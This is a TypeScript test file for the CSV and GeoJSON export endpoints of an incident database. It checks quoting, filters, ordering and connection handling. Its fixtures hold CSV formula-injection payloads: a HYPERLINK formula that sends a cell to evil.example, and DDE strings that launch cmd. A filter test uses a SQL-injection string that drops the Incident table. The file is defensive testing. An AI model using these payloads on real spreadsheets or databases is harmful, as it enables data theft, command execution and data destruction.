// The CSV and GeoJSON exports against a real PostgreSQL: the same incidents as the list API
// under the same filters, in the same order, with provenance, and CSV quoting that survives
// commas, quotes and line breaks in the evidence.
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET as getCsv } from "@/app/api/incidents.csv/route";
import { GET as getGeoJson } from "@/app/api/incidents.geojson/route";
import { GET as getIncidents } from "@/app/api/incidents/route";
import { db, disconnectDb } from "@/lib/db/client";
import { EXPORT_COLUMNS, type ExportRow, exportIncidents } from "@/lib/db/export";
import { filtersFromSearchParams } from "@/lib/incidents/filters";
import { createIncident, resetDatabase } from "@/lib/testing/db";
import { seedFolder } from "@/tools/cli/seed";

const get = (handler: (r: Request) => Promise<Response>, query = "") => handler(new Request(`http://localhost/api/x${query}`));
const listIds = async (query = "") => {
  const body = (await (await get(getIncidents, `?limit=1000${query}`)).json()) as { incidents: { id: number }[] };
  return body.incidents.map((i) => i.id);
};
const csvRows = async (query = "") => {
  const res = await get(getCsv, query ? `?${query}` : "");
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
  return parse(await res.text(), { columns: true }) as Record<keyof ExportRow, string>[];
};

const AWKWARD = 'He said "12 killed, 3 injured",\nthen left; a backslash \\ too';
// Cells a spreadsheet would run as formulas (OWASP's CSV injection): each starts with = + - @ tab or CR.
const FORMULA = { evidence: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', perpetrator: "+cmd|' /C calc'!A0", target: "@SUM(1+1)*cmd" };
const FORMULA_PLACE = "-2+3+cmd|' /C calc'!A0";

beforeAll(async () => {
  await resetDatabase();
  await seedFolder(path.resolve(__dirname, "../../seeds"), () => {});
  // Two rows the seeds do not have: one undated (exports list it after every dated one) and
  // one whose evidence needs every kind of CSV quoting.
  await createIncident({ evidence: "An undated incident in Homs.", province: "Homs", killed: 2 });
  await createIncident({
    evidence: AWKWARD,
    province: "Homs",
    killed: 12,
    injured: 3,
    date: new Date("2021-03-04"),
    datePrecision: "day",
    lat: 34.73,
    lon: 36.71,
  });
  const article = await db().article.create({
    data: { source: "\tTab Wire", url: "https://example.org/formula", text: "x", contentHash: "formula-test" },
  });
  await db().incident.create({
    data: {
      ...FORMULA,
      placeName: FORMULA_PLACE,
      province: "Idlib",
      killed: 1,
      date: new Date("2019-05-06"),
      lat: 35.9,
      lon: 36.6,
      sources: { create: { articleId: article.id, evidence: "\r=1+1", evidenceStart: 0, evidenceEnd: 1 } },
    },
  });
  // A synthetic row never appears in a real-data export.
  await db().incident.create({ data: { evidence: "Synthetic.", province: "Homs", killed: 1, synthetic: true, date: new Date("2021-03-04") } });
});
afterAll(async () => {
  await disconnectDb();
});

describe("GET /api/incidents.csv", () => {
  it("has the documented columns and the same incidents as the list, newest first, undated last", async () => {
    const rows = await csvRows();
    expect(Object.keys(rows[0]!)).toEqual(EXPORT_COLUMNS);
    expect(rows.map((r) => Number(r.id))).toEqual(await listIds());
    expect(rows[rows.length - 1]!.date).toBe("");
  });

  it("keeps evidence with commas, quotes and line breaks whole", async () => {
    const row = (await csvRows()).find((r) => r.evidence.startsWith("He said"));
    expect(row?.evidence).toBe(AWKWARD);
    expect(row).toMatchObject({ killed: "12", injured: "3", date: "2021-03-04", date_precision: "day", lat: "34.73", lon: "36.71", sources: "1" });
  });

  it("neutralises cells a spreadsheet would run as formulas with a leading single quote, as OWASP recommends", async () => {
    const row = (await csvRows()).find((r) => r.province === "Idlib" && r.killed === "1" && r.date === "2019-05-06");
    expect(row).toMatchObject({
      evidence: `'${FORMULA.evidence}`,
      perpetrator: `'${FORMULA.perpetrator}`,
      target: `'${FORMULA.target}`,
      place: `'${FORMULA_PLACE}`,
      article_sources: "'\tTab Wire",
      article_urls: "https://example.org/formula",
    });
    // Ordinary cells, numbers and booleans stay as they were.
    const plain = (await csvRows()).find((r) => r.evidence === AWKWARD);
    expect(plain).toMatchObject({ killed: "12", lat: "34.73", evidence: AWKWARD });
  });

  it("carries the provenance of the seed incidents: article URL, source and evidence", async () => {
    const seeded = (await csvRows()).filter((r) => Number(r.sources) > 0);
    expect(seeded.length).toBeGreaterThan(0);
    for (const r of seeded) {
      expect(r.article_urls).toMatch(/^https?:\/\//);
      expect(r.article_sources.length).toBeGreaterThan(0);
      expect(r.evidence.length).toBeGreaterThan(10);
    }
  });

  it("applies the filters, and a hostile value is only a value", async () => {
    const homs = await csvRows("province=Homs&year=2021");
    expect(homs.map((r) => Number(r.id))).toEqual(await listIds("&province=Homs&year=2021"));
    expect(homs.every((r) => r.province === "Homs" && r.date.startsWith("2021"))).toBe(true);
    expect(await csvRows(`perpetrator=${encodeURIComponent(`x') OR TRUE; DROP TABLE "Incident"; --`)}`)).toEqual([]);
    expect(await db().incident.count()).toBeGreaterThan(0);
  });

  it("gives its connection back when the client goes away midway, so abandoned downloads cannot drain the pool", async () => {
    // More abandoned exports than the pool has connections (10): a leak would make the last ones wait and fail.
    for (let n = 0; n < 15; n++) {
      const res = await get(getCsv);
      const reader = res.body!.getReader();
      await reader.read();
      await reader.cancel();
    }
    expect((await csvRows()).length).toBe((await listIds()).length);
    expect(await db().incident.count()).toBeGreaterThan(0);
  });

  it("answers 400 with the JSON error for a bad filter", async () => {
    const res = await get(getCsv, "?year=abc");
    expect(res.status).toBe(400);
    expect(((await res.json()) as { error: { param?: string } }).error).toMatchObject({ param: "year" });
  });
});

describe("GET /api/incidents.geojson", () => {
  it("has a point for each located incident of the list, with its properties", async () => {
    const res = await get(getGeoJson);
    const body = (await res.json()) as {
      type: string;
      features: { geometry: { coordinates: [number, number] }; properties: { id: number; evidence: string } }[];
    };
    expect(body.type).toBe("FeatureCollection");
    const located = (
      await db().incident.findMany({ where: { synthetic: false, deletedAt: null, lat: { not: null }, lon: { not: null } }, select: { id: true } })
    ).map((i) => i.id);
    expect(body.features.map((f) => f.properties.id).sort((a, b) => a - b)).toEqual(located.sort((a, b) => a - b));
    const awkward = body.features.find((f) => f.properties.evidence === AWKWARD);
    expect(awkward?.geometry.coordinates).toEqual([36.71, 34.73]);
    // No spreadsheet quoting outside the CSV.
    expect(body.features.find((f) => f.properties.evidence === FORMULA.evidence)).toBeDefined();
  });

  it("pages through the rows in batches without losing or repeating one, across the undated", async () => {
    const ids: number[] = [];
    for await (const rows of exportIncidents(filtersFromSearchParams({}), 2)) ids.push(...rows.map((r) => r.id));
    expect(ids).toEqual(await listIds());
  });
});
